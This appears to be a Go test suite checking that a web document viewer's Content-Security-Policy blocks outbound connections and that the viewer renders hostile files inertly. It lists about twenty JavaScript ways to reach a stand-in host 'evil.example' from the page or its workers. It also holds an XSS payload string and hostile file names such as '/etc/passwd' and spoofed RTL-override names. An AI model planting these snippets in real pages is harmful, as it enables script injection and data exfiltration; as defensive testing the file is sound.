//go:build unix

package web

import (
	"bytes"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// connections are ways to connect to another server, in a page or in a worker. Each is a promise.
var connections = map[string]string{
	"fetch":      `fetch(url)`,
	"beacon":     `Promise.resolve(navigator.sendBeacon?.(url))`,
	"request":    `new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open("GET", url); r.send(); })`,
	"socket":     `new Promise((yes, no) => { const s = new WebSocket(url.replace("http", "ws")); s.onopen = yes; s.onerror = no; })`,
	"events":     `new Promise((yes, no) => { const s = new EventSource(url); s.onopen = yes; s.onerror = no; })`,
	"image":      `new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = url; })`,
	"style":      `new Promise((yes, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = yes; l.onerror = no; l.href = url; document.head.append(l); })`,
	"prefetch":   `new Promise((yes, no) => { const l = document.createElement("link"); l.rel = "prefetch"; l.onload = yes; l.onerror = no; l.href = url; document.head.append(l); setTimeout(no, 500, true); })`,
	"frame":      `new Promise((yes, no) => { const f = document.createElement("iframe"); f.onerror = no; f.src = url; document.body.append(f); setTimeout(no, 500, true); })`,
	"video":      `new Promise((yes, no) => { const v = document.createElement("video"); v.oncanplay = yes; v.onerror = no; v.src = url; v.load(); setTimeout(no, 500, true); })`,
	"object":     `new Promise((yes, no) => { const o = document.createElement("object"); o.onload = yes; o.onerror = no; o.data = url; document.body.append(o); setTimeout(no, 500, true); })`,
	"form":       `new Promise((yes, no) => { const f = document.createElement("form"); f.action = url; f.target = "_blank"; document.body.append(f); f.submit(); setTimeout(no, 500, true); })`,
	"script":     `new Promise((yes, no) => { const s = document.createElement("script"); s.onload = yes; s.onerror = no; s.src = url; document.head.append(s); })`,
	"import":     `import(url)`,
	"worker":     `new Promise((yes, no) => { const w = new Worker(url); w.onmessage = yes; w.onerror = no; setTimeout(no, 500, true); })`,
	"inWorker":   `inWorker("fetch(url)")`,
	"workerXHR":  `inWorker("new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open('GET', url); r.send(); })")`,
	"workerLoad": `inWorker("Promise.resolve().then(() => importScripts(url))")`,
	"workerPort": `inWorker("new Promise((yes, no) => { const s = new WebSocket(url.replace('http', 'ws')); s.onopen = yes; s.onerror = no; })")`,
}

// try defines inWorker, which runs an expression in a worker of the page, as a page that was taken over
// could. It is the worker of the page, with other source.
const try = `
	const inWorker = (text) => new Promise((yes, no) => {
		const source = new Blob(["const url = " + JSON.stringify(url) + "; (" + text + ").then(() => postMessage('yes'), (e) => postMessage('no ' + e))"]);
		const w = new Worker(window.passURL ? passURL(URL.createObjectURL(source)) : URL.createObjectURL(source));
		w.onmessage = ({data}) => data === "yes" ? yes() : no(data);
		w.onerror = no;
	});`

// attempt tries a connection from the page. What the browser returns is only logged: the proxy knows
// whether there was a connection.
func (p *page) attempt(t testing.TB, name, url string) {
	expression := fmt.Sprintf(`(async () => { const url = %q; %s try { await %s; return "no error"; } catch (e) { return String(e); } })()`, url, try, connections[name])
	t.Logf("%s: %s", name, p.text(t, expression))
}

// withoutPolicy returns the URL of a copy of the page without its policy, which shows that the test notices
// connections.
func (b *browser) withoutPolicy(t testing.TB) string {
	page, err := os.ReadFile(b.page)
	require.NoError(t, err)
	changed := bytes.Replace(page, []byte(`http-equiv="Content-Security-Policy"`), []byte("data-none"), 1)
	require.NotEqual(t, len(page), len(changed))
	return "file://" + b.write(t, "open.html", changed)
}

// TestPolicy checks that a script in the page, and one in its worker, cannot connect. Such scripts do
// not exist, and could not run: the debugger runs them.
func TestPolicy(t *testing.T) {
	b := start(t)
	for _, from := range []string{b.fileURL(), b.url} {
		p := b.open(t, from)
		// A policy of trusted types has one name, so a page that was taken over has only that of the page.
		p.do(t, `window.passURL = (url) => { const worker = Worker; let made; window.Worker = function (u) { made = u; return new worker(u); }; return url; }`)
		for _, name := range slices.Sorted(maps.Keys(connections)) {
			p.attempt(t, name, "http://evil.example/"+name)
		}
		v := p.see(t)
		for _, want := range []string{"connect-src http://evil.example/fetch", "img-src http://evil.example/image", "frame-src", "script-src-elem", "style-src-elem"} {
			require.Contains(t, strings.Join(v.Forbidden, "\n"), want)
		}
		require.Error(t, p.Evaluate(`document.body.innerHTML = "<p>x"`, new(any)))
		p.do(t, `try { setTimeout("alert(1)") } catch {}`)
		require.Error(t, p.Evaluate(`trustedTypes.createPolicy("hrefix-worker", {}), true`, new(any)))
		p.do(t, `const b = document.createElement("button"); try { b.setAttribute("onclick", "alert(1)"); } catch {} document.body.append(b); b.click(); b.remove()`)
		require.Zero(t, p.see(t).Ran)
	}
	time.Sleep(300 * time.Millisecond)
	b.requireSilent(t)
}

// TestPolicyWorker checks that the worker of the page has the policy of the page: a copy of the page whose
// worker first tries to connect still works, and nothing is asked.
func TestPolicyWorker(t *testing.T) {
	b := start(t)
	page, err := os.ReadFile(b.page)
	require.NoError(t, err)
	// The source of the worker has no hash: its own script makes it a worker, which has the page's policy.
	const attack = `for (const way of [() => fetch("http://evil.example/w1"), () => importScripts("http://evil.example/w2"),
		() => new WebSocket("ws://evil.example/w3"), () => { const r = new XMLHttpRequest(); r.open("GET", "http://evil.example/w4", false); r.send(); },
		() => new EventSource("http://evil.example/w5"), () => new Worker("http://evil.example/w6"), () => import("http://evil.example/w7"), () => eval("fetch('http://evil.example/w8')")]) {
		try { Promise.resolve(way()).catch(() => {}); } catch {}
	}
`
	const start = `id="worker-source">`
	attacked := bytes.Replace(page, []byte(start), []byte(start+attack), 1)
	open := bytes.Replace(attacked, []byte(`http-equiv="Content-Security-Policy"`), []byte("data-none"), 1)
	p := b.open(t, "file://"+b.write(t, "attacked.html", attacked))
	p.after(t, time.Minute, func() { p.do(t, `get("example").click()`) })
	require.Contains(t, p.see(t).Title, "7 of 13")
	time.Sleep(300 * time.Millisecond)
	b.requireSilent(t)

	p = b.open(t, "file://"+b.write(t, "open.html", open))
	p.after(t, time.Minute, func() { p.do(t, `get("example").click()`) })
	b.mu.Lock()
	defer b.mu.Unlock()
	require.Contains(t, strings.Join(b.asked, "\n"), "http://evil.example/w1", "the test notices a connection")
}

// TestPolicyNoticed checks that the test would notice connections of a page without the policy.
func TestPolicyNoticed(t *testing.T) {
	b := start(t)
	p := b.open(t, b.withoutPolicy(t))
	for _, name := range slices.Sorted(maps.Keys(connections)) {
		p.attempt(t, name, "http://evil.example/"+name)
	}
	time.Sleep(300 * time.Millisecond)
	b.mu.Lock()
	defer b.mu.Unlock()
	asked := strings.Join(b.asked, "\n")
	for _, name := range []string{"fetch", "beacon", "request", "events", "image", "style", "frame", "video", "object", "script", "inWorker", "workerXHR"} {
		require.Contains(t, asked, "http://evil.example/"+name)
	}
	require.Contains(t, asked, "CONNECT evil.example:80", "a socket")
}

const (
	injected = "</script></style></title></textarea><script>alert(1)</script><img src=http://evil.example/i onerror=alert(1)><iframe src=javascript:alert(1)></iframe><!--"
	turned   = "\u202e\u2066\u2028\ufeff\u200b\u00ad\u115f"
)

// hostile returns documents that try to be more than text, by name.
func hostile() map[string]string {
	all := make(map[string]string)
	for i, s := range []string{injected, turned, "javascript:alert(1)", "\x00\x01\x1b[2J\x7f", "\xff\xfe\x80", `"'` + "`${alert(1)}{{style}}$&", strings.Repeat("a", 1<<20), strings.Repeat(turned, 10000)} {
		quoted := strings.NewReplacer(`"`, "&quot;").Replace(s)
		all[fmt.Sprintf("h%d.eml", i)] = "Content-Base: http://h.example/" + s + "\nContent-Location: " + s + "\nContent-Type: text/html; x=" + s + "\n\n" +
			"<base href=\"http://h.example/" + quoted + "\"><a href=\"" + quoted + "\">x</a><img srcset=\"" + quoted + " 1x\"><a href=\"\">y</a>" + s
		all[fmt.Sprintf("h%d.html", i)] = s + "<a href=\"" + quoted + "\">x</a><a href='x" + s + "'>y</a>" + s
	}
	return all
}

// inert returns an expression that is true if the page has only elements of its own, no handlers, no
// links and nothing to load.
const inert = `[...document.querySelectorAll("body *")].every((e) => e.localName !== "a" || e.className === "skip") &&
	[...document.querySelectorAll("*")].every((e) => !["iframe", "img", "object", "embed", "video", "audio", "link", "base", "frame"].includes(e.localName) &&
	[...e.attributes].every((a) => !a.name.startsWith("on") && !["src", "srcset", "action", "formaction", "style"].includes(a.name) || e.style.length === 1 && e.style.flexGrow))`

// TestHostile shows hostile files, and files with hostile names.
func TestHostile(t *testing.T) {
	b := start(t)
	p := b.open(t, b.fileURL())
	dir := t.TempDir()
	look := func(what string) {
		v := p.see(t)
		p.do(t, `get("terminal").open = true; for (const d of document.querySelectorAll(".document details")) d.open = true`)
		require.Empty(t, v.Forbidden, what)
		require.Zero(t, v.Ran, what)
		require.Empty(t, v.Loaded, what)
		require.True(t, p.is(t, inert), what)
		var width, height int
		require.NoError(t, p.Evaluate("document.documentElement.scrollWidth - innerWidth", &width))
		require.LessOrEqual(t, width, 0, "%s: the page is wider than the window", what)
		require.NoError(t, p.Evaluate("document.documentElement.scrollHeight", &height))
		require.Less(t, height, 40_000, "%s: the page is too long", what)
		shown := p.text(t, "document.body.innerText")
		require.NotContains(t, shown, "\u202e", what)
		require.NotContains(t, shown, "\u2066", what)
	}
	for name, content := range hostile() {
		file := filepath.Join(dir, name)
		require.NoError(t, os.WriteFile(file, []byte(content), 0o600))
		p.choose(t, file)
		look(name)
		for _, tab := range []string{"edits", "base", "messages", "links"} {
			p.do(t, `get("tab-" + %s).click()`, tab)
			look(name + " " + tab)
		}
	}
	for _, name := range []string{injected, turned + ".html", "..", "/etc/passwd", `C:\x\y.html`, "a\x00b.html", "--base=x", "-", "\n\r\t.html", strings.Repeat("n", 1<<20) + ".html", "exe\u202elmth.exe", ""} {
		p.after(t, time.Minute, func() { p.do(t, `load(new Blob(["<base href=http://h.example/><a href=x>"]), %s)`, name) })
		look(name[:min(len(name), 30)])
		v := p.see(t)
		require.Contains(t, v.Title, "1 of 2 links", "%.40q: %s", name, v.Problem)
		download := p.text(t, `downloadName(shown)`)
		require.NotContains(t, download, "\u202e")
		require.NotContains(t, download, "/")
		require.Less(t, len(download), 300)
	}
	b.requireSilent(t)
}
